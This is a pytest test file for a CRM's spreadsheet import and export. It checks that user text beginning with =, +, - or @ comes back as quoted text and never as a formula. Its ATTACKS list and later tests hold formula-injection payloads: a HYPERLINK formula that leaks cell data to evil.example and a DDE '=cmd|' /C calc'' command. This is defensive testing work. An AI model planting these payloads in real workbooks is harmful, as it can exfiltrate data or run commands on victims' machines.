"""No text a user typed comes out of a workbook as a live formula (issue 7, §2).

Every check reads the produced workbook back with openpyxl: a formula cell has data_type "f";
the texts must come back as text cells ("s") with their exact value, and numbers as numbers.
"""

import io
from decimal import Decimal

import openpyxl
import pytest
from openpyxl import Workbook

from outletcrm.core import spreadsheet
from outletcrm.customers.importexport import (
    COLUMNS,
    DATA_SHEET,
    REJECT_REASON_HEADER,
    export_customers,
    import_customers,
    import_template,
)
from outletcrm.customers.models import Customer, OutletType, Tag
from outletcrm.customers.selectors import CustomerFilters
from tests.customers.test_importexport import HEADERS, row
from tests.factories import ContactFactory, CustomerFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def xml_text(value: str) -> str:
    """What a text reads back as: XML turns a carriage return into a line feed."""
    return value.replace("\r", "\n")


def cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            yield from line


def assert_no_formula(data: bytes) -> dict:
    """No formula anywhere; returns {value: cell} of the text cells, to check the values."""
    found = {}
    for cell in cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            found[cell.value] = cell
    return found


def test_the_shared_helper_marks_formula_like_texts_and_keeps_numbers_numbers():
    workbook = Workbook()
    sheet = workbook.active
    values = [*ATTACKS, "+86 571 8888 1234", "-", "普通文字", -12.5, Decimal("-3.20"), 0, None]
    spreadsheet.append(sheet, values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    (read,) = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()
    got = [(c.value, c.data_type, c.quotePrefix) for c in read]
    risky = len(ATTACKS) + 2  # the attacks, the phone and the lone "-"
    assert got[:risky] == [(xml_text(v), "s", True) for v in values[:risky]]
    assert got[risky] == ("普通文字", "s", False)
    # Negative amounts stay numbers a sum can use.
    assert [(v, t) for v, t, _q in got[risky + 1 : risky + 4]] == [
        (-12.5, "n"), (-3.2, "n"), (0, "n")
    ]


@pytest.mark.parametrize("name", ATTACKS)
def test_a_customer_named_like_a_formula_exports_as_text(cast, name):
    customer = CustomerFactory(
        name=name, owner=cast.alice, address="-1号", notes="@管理员", latitude=Decimal("-33.868800"),
        longitude=Decimal("151.209300"), floor_area=Decimal("55.5"),
    )
    customer.tags.add(Tag.objects.create(name="=标签"))
    ContactFactory(customer=customer, name="+王", interests="=兴趣", is_primary=True)
    content, count = export_customers(user=cast.alice, filters=CustomerFilters())
    assert count == 2
    texts = assert_no_formula(content)
    for value in (xml_text(name), "-1号", "@管理员", "=标签", "+王", "=兴趣"):
        assert value in texts, value
        assert texts[value].quotePrefix
    sheet = openpyxl.load_workbook(io.BytesIO(content))[DATA_SHEET]
    header = [c.value for c in sheet[1]]
    line = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == xml_text(name))
    latitude = line[header.index("纬度")]
    assert (latitude.value, latitude.data_type) == (-33.8688, "n")
    assert line[header.index("营业面积")].data_type == "n"


def test_an_exported_formula_like_name_imports_back_unchanged(cast):
    CustomerFactory(name="=1+2", owner=cast.alice, phone="13900000077")
    content, _count = export_customers(user=cast.alice, filters=CustomerFilters())
    Customer.objects.all().delete()
    result = import_customers(actor=cast.alice, fileobj=io.BytesIO(content), filename="x.xlsx")
    assert result.ok and result.created_count == 2
    assert Customer.objects.filter(name="=1+2").exists()


def test_the_rejected_rows_workbook_gives_texts_back_as_text(cast):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = DATA_SHEET
    spreadsheet.append(sheet, HEADERS)
    keys = {c.header: c.key for c in COLUMNS}
    good, bad = row(), row(name='=HYPERLINK("http://evil.example","x")', outlet_type="=9*9")
    for values in (good, bad):
        # Written as text cells: how a name that starts with "=" arrives from a real file.
        spreadsheet.append(sheet, [values.get(keys[h]) for h in HEADERS])
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = import_customers(
        actor=cast.alice, fileobj=io.BytesIO(buffer.getvalue()), filename="x.xlsx",
        skip_invalid=True,
    )
    assert result.created_count == 1 and result.rejected_workbook
    texts = assert_no_formula(result.rejected_workbook)
    assert bad["name"] in texts and "=9*9" in texts
    rejected = openpyxl.load_workbook(io.BytesIO(result.rejected_workbook)).active
    assert rejected.cell(row=1, column=len(HEADERS) + 1).value == REJECT_REASON_HEADER
    assert "=9*9" in rejected.cell(row=2, column=len(HEADERS) + 1).value


def test_the_template_writes_configured_labels_as_text(db):
    OutletType.objects.create(code="evil", name="=cmd|' /C calc'!A0", sort_order=99)
    texts = assert_no_formula(import_template())
    assert "=cmd|' /C calc'!A0" in texts
